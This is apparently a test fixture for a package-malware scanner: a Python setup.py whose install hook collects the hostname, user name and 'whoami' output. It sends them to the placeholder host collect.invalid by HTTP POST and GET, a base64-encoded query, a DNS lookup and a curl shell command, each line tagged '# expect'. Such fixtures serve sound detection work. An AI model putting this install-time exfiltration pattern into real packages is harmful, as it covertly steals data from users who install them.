# file: setup.py
import base64
import getpass
import json
import os
import platform
import socket
import urllib.request
import requests
from setuptools import setup
from setuptools.command.install import install


class Report:
    def __init__(self):
        self.data = {"host": socket.gethostname(), "user": getpass.getuser()}

    def send(self):
        requests.post("https://collect.invalid/i", json=self.data)  # expect


class Install(install):
    def run(self):
        install.run(self)
        Report().send()
        text = base64.b64encode(json.dumps({"n": platform.node()}).encode()).decode()
        urllib.request.urlopen("https://collect.invalid/?d=" + text)  # expect
        requests.get("https://collect.invalid/u", params={"u": os.environ.get("USERNAME")})  # expect
        who = os.popen("whoami").read()
        requests.get("https://collect.invalid/w/" + who)  # expect
        socket.gethostbyname(socket.gethostname() + ".sample.collect.invalid")  # expect
        os.system("curl https://collect.invalid/$(whoami)")  # expect


setup(name="sample", cmdclass={"install": Install})
